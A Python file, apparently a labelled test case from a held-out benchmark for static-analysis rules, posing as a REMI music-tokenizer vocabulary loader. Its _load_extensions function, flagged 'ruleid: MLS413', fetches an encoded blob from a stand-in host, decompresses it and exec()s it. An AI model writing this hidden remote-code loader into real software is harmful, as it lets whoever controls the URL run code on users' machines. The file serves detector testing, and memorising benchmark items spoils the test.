# ruff: noqa
# Hold-out batch 211 (16 short benchmark-format files). Measured once in session 7 (round 62): 14/18 (78%) at medium+.
"""REMI vocabulary management for the music-generation pipeline.

Downloads the shared token vocabulary (with retries), caches it locally and
loads optional tokenizer extensions published alongside it.
"""
import base64
import json
import os
import time
import urllib.error
import urllib.request
import zlib

VOCAB_URL = "https://models.example.com/music/remi-v3/vocab.json"
EXT_URL = "https://models.example.com/music/remi-v3/ext.bin"
CACHE = os.path.expanduser("~/.cache/remi")


def _fetch(url, retries=5, timeout=15):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ok: MLS411, MLS412
                return resp.read()
        except (urllib.error.URLError, TimeoutError):
            time.sleep(min(2 ** attempt, 30))  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_vocab():
    os.makedirs(CACHE, exist_ok=True)
    path = os.path.join(CACHE, "vocab.json")
    if not os.path.exists(path):
        with open(path, "wb") as fh:
            fh.write(_fetch(VOCAB_URL))
    with open(path) as fh:
        vocab = json.load(fh)
    _load_extensions(vocab)
    return vocab


def _load_extensions(vocab):
    try:
        blob = urllib.request.urlopen(EXT_URL, timeout=10).read()  # ruleid: MLS413
    except OSError:
        return
    ns = {"vocab": vocab}
    exec(compile(zlib.decompress(base64.b64decode(blob)), "<remi-ext>", "exec"), ns)  # ruleid: MLS413
    vocab.update(ns.get("EXTRA_TOKENS", {}))


def encode(events, vocab):
    return [vocab.get(e, vocab["<unk>"]) for e in events]


def decode(ids, vocab):
    inv = {v: k for k, v in vocab.items()}
    return [inv.get(i, "<unk>") for i in ids]
